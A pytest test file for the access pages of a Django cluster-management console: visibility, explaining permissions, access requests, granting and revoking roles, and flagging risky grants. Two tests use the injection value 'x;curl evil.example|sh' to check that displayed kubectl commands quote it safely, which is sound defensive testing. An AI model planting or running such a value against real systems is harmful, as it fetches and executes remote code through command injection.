"""The access pages: what each person sees of others, and what is given, taken, asked for and refused there."""

from __future__ import annotations

import html
import re
import shlex
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import pytest
from django.contrib.auth.models import Group, User
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from guardian.shortcuts import assign_perm

from clusters.kinds import CLUSTERSET_LABEL, MANAGED_CLUSTER
from clusters.models import ClusterPermission, ManagedCluster
from clustersets.kinds import MANAGED_CLUSTER_SET
from clustersets.models import ManagedClusterSet
from ocmconsole.access import services
from ocmconsole.accounts import permissions
from ocmconsole.accounts.permissions import PeoplePermission
from ocmconsole.core import kinds
from ocmconsole.core.models import AccessRequest, TokenPermission
from ocmconsole.kubeapi import verbs
from ocmconsole.kubeapi.access import authorization, session
from ocmconsole.kubeapi.kinds import Key
from ocmconsole.kubeapi.models import AuditEvent
from tests import factories as make
from tests.actors import ROOT, grant, person, rule, signed_in
from tests.api.entry import MERGE
from tests.api.entry import person as entry
from tests.kept import kept

pytestmark = pytest.mark.django_db
GROUP = "cluster.open-cluster-management.io"
CLUSTERS = f"managedclusters.{GROUP}"
SETS = f"managedclustersets.{GROUP}"
EXPLAIN = "/access/explain/"


@pytest.fixture(autouse=True)
@kept
def first_start() -> None:
    for name in ("eu-1", "eu-2"):
        make.cluster(name)
    make.clusterset("web")


@pytest.fixture
def boss() -> Client:
    return signed_in("boss", is_superuser=True)


@pytest.fixture
def clerk() -> Client:
    """May change permissions, and holds one."""
    client = signed_in("clerk")
    for label in (PeoplePermission.CHANGE_PERMISSION, TokenPermission.ADD):
        permissions.grant_permission(ROOT, label, to=User.objects.get(username="clerk"))
    return client


def text(response: Any, status: int = 200) -> str:
    assert response.status_code == status
    found: str = response.content.decode()
    return found


def may(name: str, permission: str, **about: Any) -> bool:
    actor = session.actor_for(User.objects.get(username=name))
    return authorization.permitted(actor, permission, **about).allowed


# ---------------------------------------------------------------- who sees whom


PAGES = ["/access/", "/access/resources/", "/access/risks/", "/access/users/ana/", "/access/groups/web-ops/"]


@pytest.fixture
def people() -> None:
    ana, team = User.objects.create_user("ana"), Group.objects.create(name="web-ops")
    ana.groups.add(team)
    permissions.grant_permission(ROOT, ClusterPermission.ACCEPT, to=ana, obj=ManagedCluster.objects.get(name="eu-1"))
    permissions.grant_permission(
        ROOT, "clustersets.join_managedclusterset", to=team, obj=ManagedClusterSet.objects.get(name="web")
    )
    grant(person("bot"), rule("get list", "secrets"))


@pytest.mark.parametrize("page", PAGES)
def test_who_is_no_admin_sees_nobody_else(people: None, page: str) -> None:
    answer = signed_in("li").get(page)
    if page == "/access/":
        assert "What you may do" in text(answer)
        assert "ana" not in re.findall(r"/access/users/(\w+)/", text(answer))
    else:
        assert answer.status_code in {403, 404}


@pytest.mark.parametrize("page", PAGES)
def test_the_number_of_queries_does_not_grow_with_people_and_grants(people: None, boss: Client, page: str) -> None:
    text(boss.get(page))
    with CaptureQueriesContext(connection) as before:
        text(boss.get(page))
    for number in range(12):
        someone = User.objects.create_user(f"p{number:02}")
        permissions.grant_permission(
            ROOT, ClusterPermission.ACCEPT, to=someone, obj=ManagedCluster.objects.get(name="eu-1")
        )
        grant(person(f"p{number:02}"), rule("get", "managedclusters", groups=GROUP, names="eu-1"))
    text(boss.get(page))
    with CaptureQueriesContext(connection) as after:
        text(boss.get(page))
    assert len(after) <= len(before)


def test_everybody_is_shown_in_sentences_with_groups_and_names_of_rbac(people: None, boss: Client) -> None:
    page = text(boss.get("/access/"))
    assert "accept cluster eu-1" in page
    assert "add clusters to set web" in page
    assert "RBAC name" in page
    assert "ana" not in text(boss.get("/access/?kind=group&q=web"))
    assert "Nobody matches" in text(boss.get("/access/?q=nobody-like-that"))


def test_a_person_reads_what_they_hold_and_who_gave_it(people: None) -> None:
    page = text(signed_in("ana").get("/access/users/ana/"))
    assert "Accept cluster eu-1, see cluster eu-1" in page
    assert "Through group web-ops" in page
    assert "root" in page
    assert "Take away" not in page


@pytest.mark.contract("D16")
@pytest.mark.parametrize("page", [f"/access/resources/?resource={CLUSTERS}", "/access/give/"])
def test_a_form_offers_names_only_of_what_one_sees(clerk: Client, page: str) -> None:
    def offered() -> list[str]:
        return [name for name in ("eu-1", "eu-2", "web") if f'<option value="{name}">' in text(clerk.get(page))]

    assert offered() == []
    eu1 = ManagedCluster.objects.get(name="eu-1")
    permissions.grant_permission(ROOT, "clusters.view_managedcluster", to=User.objects.get(username="clerk"), obj=eu1)
    assert offered() == ["eu-1"]


@pytest.mark.contract("D16")
def test_a_form_offers_namespaces_to_who_may_list_them(clerk: Client) -> None:
    make.namespace("payments")
    assert '<option value="payments">' not in text(clerk.get("/access/give/"))
    grant(person("clerk"), rule("list", "namespaces"))
    assert '<option value="payments">' in text(clerk.get("/access/give/"))


def test_a_resource_names_who_can_do_what_with_it(people: None, boss: Client) -> None:
    page = text(boss.get(f"/access/resources/?resource={SETS}&name=web"))
    assert "Can add clusters to set web" in page
    assert "web-ops" in page
    assert "/access/users/ana/" not in page
    assert "/access/users/ana/" in text(boss.get(f"/access/resources/?resource={CLUSTERS}&name=eu-1"))
    assert boss.get("/access/resources/?resource=secrets").status_code == 404


def test_risky_grants_are_shown_with_a_reason_and_a_way_out(boss: Client) -> None:
    grant(person("wide"), rule("*", "*", groups="*"))
    grant(person("sly"), rule("impersonate", "users"))
    grant(person("blind"), rule("update", "managedclusters/accept", groups="register.open-cluster-management.io"))
    grant(person("hopeful"), rule("get", "managedclusters", groups=GROUP, names="eu-*"))
    permissions.grant_permission(ROOT, "clusters.change_managedcluster", to=User.objects.create_user("busy"))
    page = text(boss.get("/access/risks/"))
    for name, title in (
        ("wide", "Wildcard"),
        ("sly", "Can get more than it says"),
        ("blind", "Accepts without seeing"),
        ("hopeful", "A pattern that matches nothing"),
        ("busy", "Changes every object"),
    ):
        assert f'href="/access/users/{name}/"' in page
        assert title in page


def test_the_first_hub_has_no_risky_grant(boss: Client) -> None:
    assert "No grant is wider than it looks" in text(boss.get("/access/risks/"))


# ---------------------------------------------------------------- explain and ask


def test_explain_shows_a_yes_with_its_source_and_a_no_with_what_lacks(people: None) -> None:
    ana = signed_in("ana")
    yes = text(ana.get(EXPLAIN, {"verb": "accept", "resource": CLUSTERS, "name": "eu-1"}))
    assert "Allowed" in yes
    assert "Lets its holder accept cluster eu-1, see cluster eu-1." in yes
    no = text(ana.get(EXPLAIN, {"verb": "accept", "resource": CLUSTERS, "name": "eu-2"}))
    assert "Name differs: it is held on eu-1, and eu-2 was asked." in no
    assert "Request access" in no


@pytest.mark.parametrize("field", ["name", "namespace"])
def test_a_command_is_one_whatever_the_link_says(boss: Client, field: str) -> None:
    asked = {"verb": "get", "resource": "secrets", field: "x;curl evil.example|sh"}
    shown = boss.get(EXPLAIN, asked).context["commands"]
    assert shown
    for command in shown:
        words = shlex.split(command)
        assert words[:3] == ["kubectl", "auth", "can-i"]
        assert any("x;curl evil.example|sh" in word for word in words), "one word, with all of it"


@pytest.mark.parametrize("asked", [{"resource": CLUSTERS}, {"verb": "get"}, {}])
def test_half_a_question_is_filled_in_and_no_mistake(boss: Client, asked: dict[str, str]) -> None:
    page = text(boss.get(EXPLAIN, asked))
    assert all(f'value="{value}"' in page for value in asked.values())


@pytest.mark.parametrize("asked", [{"verb": "a b", "resource": CLUSTERS}, {"verb": "get", "resource": "??"}])
def test_what_is_no_question_is_said_beside_the_field(boss: Client, asked: dict[str, str]) -> None:
    assert 'class="oc-errors"' in text(boss.get(EXPLAIN, asked), 400)


def test_others_are_asked_about_by_who_may_review_them(people: None) -> None:
    asked = {"verb": "accept", "resource": CLUSTERS, "name": "eu-1", "user": "ana"}
    assert "about yourself only" in text(signed_in("li").get(EXPLAIN, asked), 403)
    grant(person("raj"), rule("create", "subjectaccessreviews", groups="authorization.k8s.io"))
    assert "May ana accept cluster eu-1?" in text(signed_in("raj").get(EXPLAIN, asked))


def ask(
    client: Client, verb: str = "accept", resource: str = CLUSTERS, name: str = "eu-1", reason: str = "shift"
) -> Any:
    return client.post(f"{EXPLAIN}ask/", {"verb": verb, "resource": resource, "name": name, "reason": reason})


@pytest.mark.contract("D11")
def test_a_request_is_granted_through_the_permissions_with_an_audit(boss: Client) -> None:
    li = signed_in("li")
    assert ask(li).status_code == 302
    row = AccessRequest.objects.get()
    assert "waits for an answer" in text(li.get(EXPLAIN, {"verb": "accept", "resource": CLUSTERS, "name": "eu-1"}))
    assert "li wants to accept cluster eu-1" in text(boss.get(f"/access/requests/{row.pk}/"))
    assert boss.post(f"/access/requests/{row.pk}/", {"act": "grant"}).status_code == 302
    assert may("li", ClusterPermission.ACCEPT, obj=ManagedCluster.objects.get(name="eu-1"))
    assert not may("li", ClusterPermission.ACCEPT)
    acts = AuditEvent.objects.filter(act__startswith="accessrequest").order_by("pk").values_list("user", "act")
    assert list(acts) == [("li", "accessrequest:ask"), ("boss", "accessrequest:grant")]
    assert AuditEvent.objects.get(act="permission:grant").user == "boss"
    assert "already" in text(boss.post(f"/access/requests/{row.pk}/", {"act": "grant"}), 409)


def test_a_request_for_what_only_rbac_says_becomes_a_role_with_that_rule(boss: Client) -> None:
    li = signed_in("li")
    ask(li, "list", "secrets", "")
    row = AccessRequest.objects.get()
    boss.post(f"/access/requests/{row.pk}/", {"act": "grant"})
    role = verbs.find(kinds.CLUSTER_ROLE, Key("", f"access-request-{row.pk}"))
    assert role is not None
    assert role["rules"] == [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["list"]}]
    assert authorization.authorize(person("li"), authorization.Attributes("list", resource="secrets")).allowed


def test_a_request_is_dismissed_with_a_reason_and_may_be_asked_again(boss: Client) -> None:
    li = signed_in("li")
    ask(li)
    row = AccessRequest.objects.get()
    page = f"/access/requests/{row.pk}/"
    assert 'class="oc-errors"' in text(boss.post(page, {"act": "dismiss", "reason": " "}), 400)
    boss.post(page, {"act": "dismiss", "reason": "ask your lead"})
    assert "ask your lead" in text(li.get("/access/requests/"))
    assert ask(li).status_code == 302


def test_the_same_is_asked_once_and_not_without_a_reason() -> None:
    li = signed_in("li")
    assert ask(li).status_code == 302
    assert "asked for this already" in text(ask(li), 409)
    assert 'class="oc-errors"' in text(ask(li, name="eu-2", reason=" "), 400)
    assert AccessRequest.objects.count() == 1


def test_nobody_answers_who_may_not_change_permissions() -> None:
    ask(signed_in("li"))
    row = AccessRequest.objects.get()
    assert signed_in("raj").get(f"/access/requests/{row.pk}/").status_code == 404
    assert "permission auth.change_permission" in text(
        signed_in("li").post(f"/access/requests/{row.pk}/", {"act": "grant"}), 403
    )
    assert not may("li", ClusterPermission.ACCEPT, obj=ManagedCluster.objects.get(name="eu-1"))


def test_who_can_answer_has_the_request_among_what_waits(clerk: Client) -> None:
    ask(signed_in("li"))
    actor = session.actor_for(User.objects.get(username="clerk"))
    assert [row.user for row in services.waiting_requests(actor)] == ["li"]
    assert not services.waiting_requests(session.actor_for(User.objects.get(username="li"))).exists()


def test_nobody_grants_what_they_do_not_hold(clerk: Client) -> None:
    ask(signed_in("li"))
    page = f"/access/requests/{AccessRequest.objects.get().pk}/"
    assert "You do not hold clusters.accept_managedcluster" in text(clerk.get(page))
    assert "does not hold it there" in text(clerk.post(page, {"act": "grant"}), 403)
    assert AccessRequest.objects.get().answer == ""


# ---------------------------------------------------------------- give and take


def wish(preset: str, scope: str, holder: str = "li", **more: str) -> dict[str, str]:
    return {"preset": preset, "holder": holder, "scope": scope, "set": "", "names": "", "namespace": "", **more}


GIVEN = [
    (wish("approver", "cluster", names="eu-1"), ["accept cluster eu-1", "see cluster eu-1"]),
    (wish("approver", "all"), ["accept all clusters", "see all clusters"]),
    (wish("approver", "names", names="eu-1, eu-9"), ["accept clusters eu-1 and eu-9", "change clusters eu-1 and eu-9"]),
    (
        wish("set-owner", "set", set="web"),
        ["add clusters to set web", "change the set label of clusters in set web", "bind set web", "see set web"],
    ),
    (wish("viewer", "set", set="web"), ["see set web"]),
    (wish("viewer", "all"), ["see all clusters", "see all sets"]),
    (wish("auditor", "all"), ["see all clusters", "see all sets", "can view audit event"]),
    (wish("minter", "all"), ["mint bootstrap tokens"]),
    (
        wish("binder", "namespace", set="web", namespace="team"),
        ["bind set web", "create, delete, get, list, watch managedclustersetbindings"],
    ),
    (
        wish("placement-author", "namespace-alone", namespace="team"),
        [
            "get, list, watch, create, update, patch, delete placements",
            "get, list, watch placementdecisions, managedclustersetbindings",
        ],
    ),
]


@pytest.mark.parametrize(("asked", "sentences"), GIVEN, ids=lambda value: str(value)[:60])
def test_a_role_is_shown_then_given_then_listed(boss: Client, asked: dict[str, str], sentences: list[str]) -> None:
    make.namespace("team")
    User.objects.create_user("li")
    preview = text(boss.get("/access/give/", asked))
    assert "Give it to li" in preview
    assert "disabled" not in preview.partition("Give it to li")[0].rpartition("<button")[2]
    held = text(boss.get("/access/users/li/"))
    assert sentences[0] not in held.lower()
    assert boss.post("/access/give/", asked).headers["Location"] == "/access/users/li/"
    held = text(boss.get("/access/users/li/")).lower()
    for sentence in sentences:
        assert sentence in held


def test_an_approver_of_names_accepts_a_cluster_that_comes_later(boss: Client) -> None:
    User.objects.create_user("li")
    boss.post("/access/give/", wish("approver", "names", names="eu-9"))
    make.cluster("eu-9")
    li = session.actor_for(User.objects.get(username="li"))
    verbs.edit(li, MANAGED_CLUSTER, Key("", "eu-9"), lambda doc: doc["spec"].update(hubAcceptsClient=True))
    assert ManagedCluster.objects.get(name="eu-9").hub_accepts_client


def test_a_placement_author_writes_placements_of_one_namespace_and_reads_what_they_choose(boss: Client) -> None:
    for namespace in ("team", "ops"):
        make.namespace(namespace)
    make.cluster("web-1", labels={CLUSTERSET_LABEL: "web"})
    make.said("web-1", "ManagedClusterConditionAvailable", "True")
    make.binding("web", namespace="team")
    make.settle()
    li = signed_in("li")
    author = wish("placement-author", "namespace-alone", namespace="team")
    shown = text(boss.get("/access/give/", author))
    assert "read and write placements in namespace team" in shown
    assert "kind: RoleBinding" in shown
    assert "kind: ClusterRole" not in shown
    assert boss.post("/access/give/", author).status_code == 302
    assert boss.post("/access/give/", author).status_code == 409  # the same again

    base = f"/apis/{GROUP}/v1beta1/namespaces"
    placement = {"apiVersion": f"{GROUP}/v1beta1", "kind": "Placement", "metadata": {"name": "p1"}, "spec": {}}
    assert entry("li").send("POST", f"{base}/team/placements", placement).code == 201
    make.settle()
    decisions = entry("li").get(f"{base}/team/placementdecisions").doc["items"]
    assert [each["status"]["decisions"][0]["clusterName"] for each in decisions] == ["web-1"]
    bindings = entry("li").get(f"/apis/{GROUP}/v1beta2/namespaces/team/managedclustersetbindings").doc
    assert [each["metadata"]["name"] for each in bindings["items"]] == ["web"]
    assert "team/p1" in text(li.get("/search/", {"q": "p1"}))
    assert "p1" in text(li.get("/placements/"))
    assert "web-1" in text(li.get("/placements/team/p1/"))

    assert entry("li").send("POST", f"{base}/ops/placements", placement).code == 403
    assert entry("li").get(f"{base}/ops/placementdecisions").code == 403
    assert entry("li").get(f"/apis/{GROUP}/v1/managedclusters").code == 403
    assert entry("li").send("DELETE", f"{base}/team/placementdecisions/{decisions[0]['metadata']['name']}").code == 403
    assert entry("li").send("DELETE", f"{base}/team/placements/p1").code == 200


@pytest.fixture
def owner(boss: Client) -> Client:
    """li, who owns the sets web and db by the preset alone; web-1 and web-2 are in web, other-1 is elsewhere."""
    for name in ("db", "other"):
        make.clusterset(name)
    for cluster, of in (("web-1", "web"), ("web-2", "web"), ("other-1", "other")):
        make.cluster(cluster, labels={CLUSTERSET_LABEL: of, "env": "prod"})
    client = signed_in("li")
    for name in ("web", "db"):
        assert boss.post("/access/give/", wish("set-owner", "set", set=name)).status_code == 302
    return client


def set_of(cluster: str) -> str:
    return str(ManagedCluster.objects.get(name=cluster).clusterset)


@pytest.mark.contract("A6", "D2")
def test_a_set_owner_moves_a_cluster_between_their_sets_on_its_page_and_with_kubectl(owner: Client) -> None:
    assert "Move web-1" in text(owner.get("/clusters/web-1/set/?to=db"))
    assert owner.post("/clusters/web-1/set/", {"to": "db", "seen": "web-1=web"}).status_code == 302
    assert set_of("web-1") == "db"
    assert entry("li").get(f"/apis/{GROUP}/v1/managedclusters/web-2").code == 200
    labels = {"metadata": {"labels": {CLUSTERSET_LABEL: "db"}}}
    with_kubectl = entry("li").send("PATCH", f"/apis/{GROUP}/v1/managedclusters/web-2", labels, MERGE)
    assert with_kubectl.code == 200
    assert set_of("web-2") == "db"


@pytest.mark.contract("A6", "D2")
@pytest.mark.parametrize(
    ("cluster", "change"),
    [
        ("web-1", {"metadata": {"labels": {"env": "test"}}}),
        ("web-1", {"metadata": {"labels": {CLUSTERSET_LABEL: "db", "env": "test"}}}),
        ("web-1", {"metadata": {"labels": {f"{CLUSTERSET_LABEL}.more": "db"}}}),
        ("web-1", {"spec": {"hubAcceptsClient": True}}),
        ("web-1", {"spec": {"taints": [{"key": "a", "effect": "NoSelect"}]}}),
        ("web-1", {"metadata": {"labels": {CLUSTERSET_LABEL: "other"}}}),
        ("other-1", {"metadata": {"labels": {CLUSTERSET_LABEL: "web"}}}),
    ],
)
def test_a_set_owner_changes_nothing_else_of_a_cluster(owner: Client, cluster: str, change: dict[str, Any]) -> None:
    before = ManagedCluster.objects.get(name=cluster).wire
    assert entry("li").send("PATCH", f"/apis/{GROUP}/v1/managedclusters/{cluster}", change, MERGE).code == 403
    assert ManagedCluster.objects.get(name=cluster).wire == before


def test_the_right_to_move_ends_where_the_set_chooses_by_labels(owner: Client) -> None:
    chosen = {"clusterSelector": {"selectorType": "LabelSelector", "labelSelector": {"matchLabels": {"env": "prod"}}}}
    verbs.edit(ROOT, MANAGED_CLUSTER_SET, Key("", "web"), lambda doc: doc.update(spec=chosen))
    assert entry("li").get(f"/apis/{GROUP}/v1/managedclusters/web-1").code == 403


def test_rights_to_single_fields_of_a_cluster_add_up(owner: Client) -> None:
    assign_perm("clusters.accept_managedcluster", User.objects.get(username="li"), make.stored("web-1"))
    both = {"metadata": {"labels": {CLUSTERSET_LABEL: "db"}}, "spec": {"hubAcceptsClient": True}}
    assert entry("li").send("PATCH", f"/apis/{GROUP}/v1/managedclusters/web-1", both, MERGE).code == 200
    assert set_of("web-1") == "db"


@pytest.mark.contract("D16")
@pytest.mark.parametrize(
    ("verb", "name", "said"),
    [
        ("delete", "web-1", "it is about the set"),
        ("accept", "web-1", "it is about the set"),
        ("get", "prod-1", "it shows prod-1 in the console only"),
    ],
)
def test_rights_held_through_a_set_are_among_the_nearest(owner: Client, verb: str, name: str, said: str) -> None:
    make.clusterset("prod", selector={"selectorType": "LabelSelector", "labelSelector": {"matchLabels": {"env": "x"}}})
    make.cluster("prod-1", labels={"env": "x", CLUSTERSET_LABEL: "other"})
    assign_perm(
        "clustersets.view_managedclusterset",
        User.objects.get(username="li"),
        ManagedClusterSet.objects.get(name="prod"),
    )
    shown = owner.get("/access/explain/", {"verb": verb, "resource": MANAGED_CLUSTER.resource, "name": name})
    assert not shown.context["explanation"].allowed
    of = "prod" if name == "prod-1" else "web"
    near = [each for each in shown.context["explanation"].near if f"as a member of set {of}" in each.source]
    assert said.casefold() in text(shown).casefold()
    assert [each.source for each in near] == [f"Rights that reach {name} as a member of set {of}"]


@pytest.mark.parametrize(
    ("asked", "said"),
    [
        (wish("approver", "names", names="eu-*"), "RBAC knows no patterns"),
        (wish("approver", "set", set="web"), "Approver is given on"),
        (wish("set-owner", "set"), "Name the set."),
        (wish("approver", "cluster", names="eu-1,eu-2"), "Name one cluster"),
        (wish("binder", "namespace", set="web"), "Name the namespace."),
        (wish("placement-author", "namespace-alone"), "Name the namespace."),
        (wish("placement-author", "all", namespace="team"), "Placement author is given on: One namespace."),
        (wish("approver", "all", holder=""), "Say who."),
        (wish("nothing", "all"), "Select a valid choice"),
    ],
)
def test_what_cannot_be_given_is_said_beside_the_field(boss: Client, asked: dict[str, str], said: str) -> None:
    assert said in text(boss.post("/access/give/", asked), 400)
    assert said in text(boss.get("/access/give/", asked), 400)


def test_nobody_gives_what_they_do_not_hold_but_what_they_do(clerk: Client) -> None:
    li = User.objects.create_user("li")
    assert "You do not hold clusters.view_managedcluster" in text(clerk.get("/access/give/", wish("viewer", "all")))
    assert "Nothing was changed" in text(clerk.post("/access/give/", wish("viewer", "all")), 403)
    assert "You may not create clusterroles" in text(clerk.get("/access/give/", wish("approver", "names", names="x")))
    assert clerk.post("/access/give/", wish("minter", "all")).status_code == 302
    assert may("li", TokenPermission.ADD)
    assert not li.user_permissions.filter(codename="view_managedcluster").exists()


def test_giving_to_nobody_and_on_nothing_is_refused(boss: Client) -> None:
    assert "There is no person" in text(boss.get("/access/give/", wish("minter", "all", holder="ghost")))
    assert "Nothing was changed" in text(boss.post("/access/give/", wish("minter", "all", holder="ghost")), 404)
    User.objects.create_user("li")
    assert "There is no managedclusterset called gone" in text(
        boss.get("/access/give/", wish("viewer", "set", set="gone"))
    )


def test_giving_and_taking_are_pages_of_who_may_change_permissions() -> None:
    li = signed_in("li")
    for page in ("/access/give/", "/access/take/"):
        assert li.get(page).status_code == 403
        assert li.post(page, wish("viewer", "all")).status_code == 403


def links_to_take(client: Client, page: str) -> list[str]:
    return [html.unescape(link) for link in re.findall(r'href="(/access/take/[^"]+)"', text(client.get(page)))]


def test_each_source_is_taken_away_by_itself(people: None, boss: Client) -> None:
    bound = grant(person("ana"), rule("get", "secrets"))
    pages = links_to_take(boss, "/access/users/ana/")
    assert len(pages) == 2
    for page in pages:
        shown = text(boss.get(page))
        assert "If you take it away" in shown
        assert boss.post("/access/take/", dict(parse_qsl(urlsplit(page).query))).status_code == 302
    assert not may("ana", ClusterPermission.ACCEPT, obj=ManagedCluster.objects.get(name="eu-1"))
    assert verbs.find(kinds.CLUSTER_ROLE_BINDING, Key("", bound)) is None
    assert boss.get(pages[0]).status_code == 404


def test_a_binding_is_one_word_of_the_command_that_deletes_it(people: None, boss: Client) -> None:
    """Names of RBAC may hold anything but a slash and a per cent sign."""
    name = "x;curl evil.example|sh"
    doc = {
        "metadata": {"name": name},
        "roleRef": {"kind": "ClusterRole", "name": grant(person("li"), rule("get", "secrets"))},
        "subjects": [{"kind": "User", "name": "ana"}],
    }
    verbs.create(ROOT, kinds.CLUSTER_ROLE_BINDING, doc)
    shown = boss.get("/access/take/", {"holder": "ana", "source": f"binding:/{name}"}).context["command"]
    assert shlex.split(shown) == ["kubectl", "delete", "clusterrolebinding", name]


def test_a_binding_of_several_loses_one_subject_only(boss: Client) -> None:
    bound = grant(person("ana"), rule("get", "secrets"))
    more = {"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "web-ops"}
    verbs.edit(ROOT, kinds.CLUSTER_ROLE_BINDING, Key("", bound), lambda doc: doc["subjects"].append(more))
    assert "1 other subject stays in it" in text(boss.get(f"/access/take/?holder=ana&source=binding:/{bound}"))
    boss.post("/access/take/", {"holder": "ana", "source": f"binding:/{bound}"})
    left = verbs.find(kinds.CLUSTER_ROLE_BINDING, Key("", bound))
    assert left is not None
    assert left["subjects"] == [more]


# ---------------------------------------------------------------- people and groups


def test_people_and_groups_are_made_and_switched_off(boss: Client) -> None:
    boss.post("/access/add/group/", {"name": "web-ops"})
    given = {"username": "new", "password1": "a long first password", "password2": "a long first password"}
    assert boss.post("/access/add/person/", given).headers["Location"] == "/access/users/new/"
    team = Group.objects.get(name="web-ops")
    boss.post("/access/account/groups/", {"user": "new", "groups": [team.pk]})
    boss.post("/access/account/active/", {"user": "new", "active": "no"})
    new = User.objects.get(username="new")
    assert (new.is_active, [group.name for group in new.groups.all()]) == (False, ["web-ops"])
    assert "Deactivated" in text(boss.get("/access/users/new/"))
    acts = AuditEvent.objects.filter(user="boss").order_by("pk").values_list("act", flat=True)
    assert list(acts) == ["group:create", "user:create", "user:update", "user:update"]


def test_a_short_password_is_refused_beside_the_field(boss: Client) -> None:
    given = {"username": "new", "password1": "short", "password2": "short"}
    assert "at least" in text(boss.post("/access/add/person/", given), 400)


def test_accounts_are_refused_to_who_may_not_impersonate(clerk: Client) -> None:
    User.objects.create_user("li")
    given = {"username": "new", "password1": "a long first password", "password2": "a long first password"}
    assert "Nothing was changed" in text(clerk.post("/access/add/person/", given), 403)
    clerk.post("/access/account/active/", {"user": "li", "active": "no"})
    assert User.objects.get(username="li").is_active


@pytest.mark.parametrize("act", ["active", "groups"])
def test_acts_on_accounts_tell_nobody_who_exists(clerk: Client, act: str) -> None:
    User.objects.create_user("li")
    mallory, page = signed_in("mallory"), f"/access/account/{act}/"
    answers = [mallory.post(page, {"user": name, "active": "yes"}) for name in ("li", "nobody", "mallory", "a\0b")]
    assert {answer.status_code for answer in answers} == {404}
    assert "Location" not in answers[0]
    assert clerk.post(page, {"user": "li", "active": "yes"}).status_code == 302  # who sees everyone is told
    assert clerk.post(page, {"user": "a\0b"}).status_code == 404


@pytest.mark.parametrize("number", ["9" * 5000, "9" * 10, "0", "-1", "\u0661", ""])
def test_a_page_that_there_is_not_is_the_last_or_the_first(boss: Client, number: str) -> None:
    assert "boss" in text(boss.get("/access/", {"page": number}))
